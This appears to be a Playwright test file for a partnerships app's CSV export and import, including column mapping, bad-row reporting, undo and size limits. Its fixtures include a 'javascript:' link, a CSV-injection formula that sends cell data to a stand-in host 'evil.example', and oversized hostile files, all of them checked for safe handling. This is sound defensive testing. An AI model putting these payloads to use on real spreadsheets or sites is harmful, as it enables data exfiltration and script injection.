// CSV for spreadsheets and CRMs: exports with a header row and formula-safe cells, and
// imports through the column-mapping dialog, with bad rows listed and left out, the
// good rows merged, and the import undoable.
import { test, expect, open, storedWorkspace, storedText, downloadText } from "./fixtures.mjs";

const dialog = (page) => page.getByRole("dialog");
const badRows = (page) => dialog(page).locator(".csv-bad-rows li");
const previewCount = (page, group) => dialog(page).locator(`details.preview__group--${group} > summary`);
const rowOf = (page, name) => page.locator("tbody tr").filter({ hasText: name });

/** Picks a CSV file in the Data screen's CSV panel (opens the screen if needed). */
async function chooseCsvFile(page, name, content, mimeType = "text/csv") {
  if (!(await page.locator("#csv-import-file").count())) {
    await page.getByRole("link", { name: "Data", exact: true }).click();
    await expect(page.getByRole("heading", { name: "Data", level: 1 })).toBeVisible();
  }
  const buffer = Buffer.isBuffer(content) ? content : Buffer.from(content);
  await page.locator("#csv-import-file").setInputFiles({ name, mimeType, buffer });
}

async function showPartners(page) {
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Partners" }).click();
}

/** HubSpot's companies export: rows 3 and 5 are bad (a javascript: link, no name). */
const HUBSPOT = [
  "Record ID,Company name,Company Domain Name,Company owner,Lifecycle Stage,Country/Region,Industry",
  "501,Aurora Sound,aurora.example,Kim Lee,customer,Germany,COMPUTER_SOFTWARE",
  "502,Bad Link Ltd,javascript:alert(1),Kim Lee,lead,France,MUSIC",
  "503,Cobalt Beats,https://cobalt.example,Ana Ruiz,salesqualifiedlead,Spain,MUSIC",
  "504,,nameless.example,Ana Ruiz,lead,Spain,MUSIC",
  "505,Delta Drums,delta.example,Ana Ruiz,closedwon,Spain,MUSIC",
].join("\r\n") + "\r\n";

test("exporting partners and key players as CSV gives a header row and a row each", async ({ page }) => {
  await open(page, "#/data");
  const ours = await storedWorkspace(page);
  const { download, text } = await downloadText(page, () =>
    page.getByRole("button", { name: "Export partners (CSV)" }).click());
  expect(download.suggestedFilename()).toMatch(/^tandem-riffly-partnerships-2027-partners-\d{4}-\d{2}-\d{2}\.csv$/);
  // A byte-order mark so Excel reads UTF-8, then RFC 4180 lines.
  expect(text.startsWith("\uFEFFId,Name,Website,Category,Market position,Markets,Stage,Ladder,Owner,Tags,Notes,Key players,Created,Updated\r\n")).toBe(true);
  const loop = ours.partners.find((p) => p.id === "demo-p-01");
  const marketNames = loop.markets.map((id) => ours.markets.find((m) => m.id === id).name).join("; ");
  // A cell holding a comma, semicolon, tab, quote or line break is quoted, so a
  // spreadsheet splitting on semicolons keeps the list whole.
  const cell = (v) => (/[,;\t"\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
  expect(marketNames).toContain("; ");
  expect(text).toContain(
    `\r\ndemo-p-01,Loopline,https://loopline.example,Platform,Incumbent,${cell(marketNames)},Live,Integration,` +
    `${cell(loop.owner)},${cell(loop.tags.join("; "))},${cell(loop.notes)},${loop.key_players.length},${loop.created},${loop.updated}\r\n`);
  expect(text.match(/\r\ndemo-p-\d\d,/g)).toHaveLength(13);

  const players = await downloadText(page, () =>
    page.getByRole("button", { name: "Export key players (CSV)" }).click());
  expect(players.download.suggestedFilename()).toMatch(/-key-players-\d{4}-\d{2}-\d{2}\.csv$/);
  expect(players.text.split("\r\n")[0]).toBe(
    "\uFEFFPartner id,Partner name,Key player id,Name,Title,Role,Influence,Stance,Notes");
  const dana = loop.key_players[0];
  expect(players.text).toContain(`\r\ndemo-p-01,Loopline,${dana.id},Dana Whitlock,${dana.title},Decision maker,5,Supportive,`);
});

test("a HubSpot export maps itself, lists its 2 bad rows and imports the 3 good ones", async ({ page }) => {
  await open(page, "#/data");
  const before = await storedWorkspace(page);
  await chooseCsvFile(page, "hubspot-companies.csv", HUBSPOT);
  await expect(dialog(page)).toBeVisible();
  await expect(dialog(page).getByRole("heading")).toHaveText("Import partners from hubspot-companies.csv");
  await expect(dialog(page)).toContainText("5 rows below the header, comma-separated.");

  // The mapping step, filled in from the column names.
  const column = (name) => dialog(page).getByLabel(name, { exact: true });
  await expect(column("Record ID")).toHaveValue("");
  await expect(column("Company name")).toHaveValue("name");
  await expect(column("Company Domain Name")).toHaveValue("website");
  await expect(column("Company owner")).toHaveValue("owner");
  await expect(column("Lifecycle Stage")).toHaveValue("stage");
  await expect(column("Country/Region")).toHaveValue("markets");
  await expect(column("Industry")).toHaveValue("");

  // The live preview: 3 added, Spain new (Germany is in the catalogue; France only
  // appears in a bad row), and the bad rows with their row numbers and reasons.
  await expect(previewCount(page, "added")).toHaveText("3 added");
  await expect(dialog(page).locator("details.preview__group--added li")).toHaveText(
    ["Aurora Sound", "Cobalt Beats", "Delta Drums"]);
  await expect(dialog(page)).toContainText("1 new market(s) join the catalogue: Spain.");
  await expect(badRows(page)).toHaveText([
    'row 3: Company Domain Name "javascript:alert(1)" must start with http:// or https://',
    "row 5: Company name is empty: every partner needs a name",
  ]);
  const importButton = dialog(page).getByRole("button", { name: /^Import \d+ good rows?$/ });
  await expect(importButton).toHaveText("Import 3 good rows");

  // Mapping Industry to Category makes every row bad, and the preview says why at once.
  await column("Industry").selectOption("category");
  await expect(badRows(page)).toHaveCount(5);
  await expect(badRows(page).first()).toContainText('row 2: Industry "COMPUTER_SOFTWARE" is not a category Tandem knows');
  await expect(importButton).toHaveText("Import 0 good rows");
  await expect(importButton).toBeDisabled();
  await column("Industry").selectOption("");
  await expect(importButton).toHaveText("Import 3 good rows");
  expect(await storedWorkspace(page)).toEqual(before);

  await importButton.click();
  await expect(dialog(page)).toHaveCount(0);
  await expect(page.getByRole("status").filter({
    hasText: "Imported 3 partners from hubspot-companies.csv; 2 bad rows left out." })).toBeVisible();

  await showPartners(page);
  await expect(page.locator("tbody tr")).toHaveCount(16);
  await expect(rowOf(page, "Aurora Sound").locator("td").nth(2)).toHaveText("Live");
  await expect(rowOf(page, "Aurora Sound")).toContainText("Germany");
  await expect(rowOf(page, "Aurora Sound")).toContainText("Kim Lee");
  await expect(rowOf(page, "Cobalt Beats").locator("td").nth(2)).toHaveText("Pitching");
  await expect(rowOf(page, "Delta Drums").locator("td").nth(2)).toHaveText("Signed");
  await expect(rowOf(page, "Delta Drums")).toContainText("Spain");
  await expect(page.locator("tbody tr").filter({ hasText: "Bad Link" })).toHaveCount(0);
  const after = await storedWorkspace(page);
  expect(after.partners.find((p) => p.name === "Aurora Sound").website).toBe("https://aurora.example");
  expect(after.markets.map((m) => m.name)).toEqual([...before.markets.map((m) => m.name), "Spain"]);
});

test("a semicolon-separated file with a byte-order mark adds and updates partners", async ({ page }) => {
  await open(page, "#/data");
  const text = "\uFEFFName;Website;Stage;Markets;Notes\r\n" +
    "Echo Systems;https://echo.example;Negotiation;Japan;\"Two lines;\r\nwith a semicolon\"\r\n" +
    "LOOPLINE;;On hold;;\r\n";
  await chooseCsvFile(page, "accounts.csv", text);
  await expect(dialog(page)).toContainText("2 rows below the header, semicolon-separated.");
  await expect(dialog(page).getByLabel("Name", { exact: true })).toHaveValue("name");
  await expect(previewCount(page, "added")).toHaveText("1 added");
  await expect(previewCount(page, "updated")).toHaveText("1 updated");
  // The update is by name, whatever its case: LOOPLINE is our Loopline.
  await expect(dialog(page).locator("details.preview__group--updated li")).toHaveText(["LOOPLINE"]);
  await expect(badRows(page)).toHaveCount(0);
  await dialog(page).getByRole("button", { name: "Import 2 good rows" }).click();
  await expect(dialog(page)).toHaveCount(0);

  await showPartners(page);
  await expect(page.locator("tbody tr")).toHaveCount(14);
  await expect(rowOf(page, "LOOPLINE").locator("td").nth(2)).toHaveText("Paused");
  await expect(rowOf(page, "Echo Systems").locator("td").nth(2)).toHaveText("Negotiating");
  await expect(rowOf(page, "Echo Systems")).toContainText("Japan");
  const stored = await storedWorkspace(page);
  const loop = stored.partners.find((p) => p.id === "demo-p-01");
  // Empty cells leave fields as they were.
  expect(loop.website).toBe("https://loopline.example");
  expect(stored.partners.find((p) => p.name === "Echo Systems").notes).toBe("Two lines;\r\nwith a semicolon");
});

test("a formula in a partner's name is neutralised in the export and imports back intact", async ({ page }) => {
  await open(page);
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
  await page.getByLabel("New partner name").fill(formula);
  await page.getByRole("button", { name: "Add partner" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(formula);

  await page.getByRole("link", { name: "Data", exact: true }).click();
  const { download, text } = await downloadText(page, () =>
    page.getByRole("button", { name: "Export partners (CSV)" }).click());
  // A leading apostrophe makes a spreadsheet show the cell as text instead of running it.
  expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`);
  expect(text).not.toMatch(/(^|,|\r\n)=HYPERLINK/);

  // The same file imported back changes nothing: the apostrophe comes off again.
  const before = await storedText(page);
  await chooseCsvFile(page, download.suggestedFilename(), text);
  await expect(previewCount(page, "unchanged")).toHaveText("14 unchanged");
  await expect(dialog(page).locator("details.preview__group--unchanged li").last()).toHaveText(formula);
  await expect(dialog(page)).toContainText("Importing these rows would change nothing.");
  await expect(dialog(page).getByRole("button", { name: "Import 14 good rows" })).toBeDisabled();
  await dialog(page).getByRole("button", { name: "Cancel" }).click();
  await expect(dialog(page)).toHaveCount(0);
  expect(await storedText(page)).toBe(before);
});

test("Undo in the header takes a CSV import back out", async ({ page }) => {
  await open(page, "#/data");
  const before = await storedWorkspace(page);
  await chooseCsvFile(page, "one.csv", "Company,Owner\nFoxglove Radio,Kim Lee\n");
  await dialog(page).getByRole("button", { name: "Import 1 good row" }).click();
  await expect(dialog(page)).toHaveCount(0);
  await expect.poll(async () => (await storedWorkspace(page)).partners.length).toBe(14);

  const undo = page.getByRole("button", { name: /^Undo/ });
  await expect(undo).toHaveAttribute("aria-label", "Undo Import one.csv");
  await undo.click();
  await expect(page.getByRole("status").filter({ hasText: "Undid: Import one.csv." })).toBeVisible();
  await expect.poll(() => storedWorkspace(page)).toEqual(before);
  await showPartners(page);
  await expect(page.locator("tbody tr")).toHaveCount(13);
  await expect(rowOf(page, "Foxglove Radio")).toHaveCount(0);
});

test("files that cannot be imported say why and change nothing", async ({ page }) => {
  await open(page, "#/data");
  const before = await storedText(page);
  // Windows-1252, as older Excel saves "CSV": é is the single byte 0xE9.
  await chooseCsvFile(page, "latin1.csv", Buffer.from([
    ...Buffer.from("Name,Owner\r\nCaf"), 0xe9, ...Buffer.from(" Noir,Kim\r\n")]));
  await expect(dialog(page).getByRole("alert")).toHaveText(
    "This file is not UTF-8 text (line 2 has bytes that are not UTF-8). Save it from your spreadsheet as “CSV UTF-8” and choose it again.");
  await expect(dialog(page)).toContainText("Your workspace has not changed.");
  await dialog(page).getByRole("button", { name: "Close" }).click();
  await expect(dialog(page)).toHaveCount(0);

  await chooseCsvFile(page, "empty.csv", "\r\n\r\n");
  await expect(dialog(page).getByRole("alert")).toContainText("The file is empty.");
  await page.keyboard.press("Escape");
  await expect(dialog(page)).toHaveCount(0);

  // A header row with nothing recognisable: the person can still map a column by hand.
  await chooseCsvFile(page, "odd.csv", "Firma,Bemerkung\nGlimmer,x\n");
  await expect(dialog(page).getByRole("alert")).toHaveText(
    "No column is mapped to Name. Choose which column holds the partner's name: every partner needs one.");
  await expect(dialog(page).getByRole("button", { name: "Import 0 good rows" })).toBeDisabled();
  await dialog(page).getByLabel("Firma").selectOption("name");
  await expect(previewCount(page, "added")).toHaveText("1 added");
  await dialog(page).getByRole("button", { name: "Cancel" }).click();
  expect(await storedText(page)).toBe(before);
});

test("a CSV file dropped on the page points to the CSV import instead of failing as JSON", async ({ page }) => {
  await open(page);
  await page.evaluate(() => {
    const dt = new DataTransfer();
    dt.items.add(new File(["Company name,Website\nAcme,https://acme.example\n"], "crm.csv", { type: "text/csv" }));
    window.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
  });
  const dialog = page.getByRole("dialog");
  await expect(dialog).toContainText("This is a CSV file.");
  await expect(dialog).toContainText("Import partners from CSV…");
  await expect(dialog).toContainText("Your workspace has not changed.");
});

// Issue 13, item 5: a hostile CSV must not build thousands of drop-downs or list items.
test("a file of 5,000 columns is refused by its width, and 100,000 bad rows list 100 and count the rest", async ({ page }) => {
  await open(page, "#/data");
  const before = await storedText(page);
  const cells = (n) => Array.from({ length: n }, (_, i) => `c${i}`).join(",");
  await chooseCsvFile(page, "wide.csv", `Name,${cells(4999)}\r\nAcme,${cells(4999)}\r\n`);
  await expect(dialog(page).getByRole("alert")).toHaveText(
    "This file has 5,000 columns; Tandem imports files of at most 300. Delete the columns you do not need in your spreadsheet (or export fewer from your CRM), save it as CSV and choose it again.");
  await expect(dialog(page).locator("select")).toHaveCount(0);
  await dialog(page).getByRole("button", { name: "Close" }).click();
  await expect(dialog(page)).toHaveCount(0);

  const rows = ["Name,Website", "Good Co,https://good.example"];
  for (let i = 0; i < 100_000; i++) rows.push(`Bad ${i},javascript:x`);
  await chooseCsvFile(page, "bad.csv", rows.join("\r\n") + "\r\n");
  await expect(dialog(page).locator(".csv-bad-rows strong")).toHaveText("100,000 rows are left out");
  await expect(badRows(page)).toHaveCount(100);
  await expect(badRows(page).first()).toHaveText('row 3: Website "javascript:x" must start with http:// or https://');
  await expect(badRows(page).last()).toContainText("row 102:");
  await expect(dialog(page).locator(".csv-bad-rows__more")).toHaveText("and 99,900 more rows left out, not listed.");
  await expect(dialog(page).getByRole("button", { name: "Import 1 good row" })).toBeEnabled();
  await dialog(page).getByRole("button", { name: "Cancel" }).click();
  await expect(dialog(page)).toHaveCount(0);
  expect(await storedText(page)).toBe(before);
});
